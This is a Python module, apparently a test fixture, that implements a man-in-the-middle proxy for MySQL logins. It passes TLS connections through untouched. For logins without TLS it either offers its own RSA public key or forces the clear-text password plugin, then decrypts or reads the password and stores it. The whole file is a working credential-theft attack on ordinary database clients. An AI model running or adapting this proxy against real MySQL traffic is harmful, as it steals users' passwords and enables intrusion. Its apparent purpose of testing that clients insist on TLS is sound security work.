"""Somebody between client and server, who passes on all but logins without TLS: he wants their password."""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field
from typing import Literal

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding, rsa

CLIENT_SSL = 0x0800
"""In the client's first packet: it goes on with TLS (source documentation, "Protocol::SSLRequest")."""

FULL_AUTHENTICATION = b"\x01\x04"
REQUEST_PUBLIC_KEY = b"\x02"
SWITCH_TO_CLEAR = b"\xfemysql_clear_password\x00"
SCRAMBLE_BYTES = 20
PATIENCE_S = 60.0

Trick = Literal["own key", "clear password"]


@dataclass
class ManInTheMiddle:
    """One who asks logins without TLS for the password, by a trick, and what they gave away.

    `packets` are all that came behind the answer to the greeting, `passwords` what he could read in them.
    """

    server_port: int
    trick: Trick
    logins: int = 0
    packets: list[bytes] = field(default_factory=list)
    passwords: list[str] = field(default_factory=list)
    key: rsa.RSAPrivateKey = field(default_factory=lambda: rsa.generate_private_key(65537, 2048))

    @contextmanager
    def listening(self) -> Iterator[int]:
        """The port on 127.0.0.1 where he listens, while he does."""
        with socket.create_server(("127.0.0.1", 0), backlog=64) as listener:

            def serve() -> None:
                while True:
                    try:
                        client, _ = listener.accept()
                    except OSError:
                        return
                    threading.Thread(target=self._between, args=(client,)).start()

            thread = threading.Thread(target=serve)
            thread.start()
            yield listener.getsockname()[1]
            listener.shutdown(socket.SHUT_RDWR)
            thread.join(PATIENCE_S)

    def _between(self, client: socket.socket) -> None:
        address = ("127.0.0.1", self.server_port)
        with client, socket.create_connection(address) as server, suppress(OSError, EOFError):
            for channel in (client, server):
                channel.settimeout(PATIENCE_S)
            _, greeting = _packet(server)
            client.sendall(_framed(0, greeting))
            number, first = _packet(client)
            if int.from_bytes(first[:2], "little") & CLIENT_SSL:
                server.sendall(_framed(number, first))
                _pass_on(client, server)
                return
            self.logins += 1
            asking = FULL_AUTHENTICATION if self.trick == "own key" else SWITCH_TO_CLEAR
            client.sendall(_framed(number + 1, asking))
            while True:
                self._take(client, *_packet(client), _scramble(greeting))

    def _take(self, client: socket.socket, number: int, said: bytes, scramble: bytes) -> None:
        self.packets.append(said)
        if self.trick == "clear password":
            self.passwords.append(said.rstrip(b"\0").decode())
        elif said == REQUEST_PUBLIC_KEY:
            pem = self.key.public_key().public_bytes(
                serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
            )
            client.sendall(_framed(number + 1, b"\x01" + pem))
        else:
            oaep = padding.OAEP(padding.MGF1(hashes.SHA1()), hashes.SHA1(), None)  # noqa: S303 (MySQL's)
            masked = self.key.decrypt(said, oaep)
            text = bytes(byte ^ scramble[place % SCRAMBLE_BYTES] for place, byte in enumerate(masked))
            self.passwords.append(text.rstrip(b"\0").decode())


def _scramble(greeting: bytes) -> bytes:
    """In two parts, of 8 bytes and of 12 (source documentation, "Protocol::HandshakeV10")."""
    after_version = greeting.index(b"\0", 1) + 1
    first = after_version + 4
    second = first + 8 + 1 + 2 + 1 + 2 + 2 + 1 + 10
    return greeting[first : first + 8] + greeting[second : second + 12]


def _pass_on(client: socket.socket, server: socket.socket) -> None:
    def one_way(source: socket.socket, sink: socket.socket) -> None:
        with suppress(OSError):
            while data := source.recv(1 << 16):
                sink.sendall(data)
        with suppress(OSError):
            sink.shutdown(socket.SHUT_WR)

    back = threading.Thread(target=one_way, args=(server, client))
    back.start()
    one_way(client, server)
    back.join(PATIENCE_S)


def _packet(channel: socket.socket) -> tuple[int, bytes]:
    header = _exactly(channel, 4)
    return header[3], _exactly(channel, int.from_bytes(header[:3], "little"))


def _exactly(channel: socket.socket, count: int) -> bytes:
    data = b""
    while len(data) < count:
        more = channel.recv(count - len(data))
        if not more:
            raise EOFError
        data += more
    return data


def _framed(number: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3, "little") + bytes([number % 256]) + payload
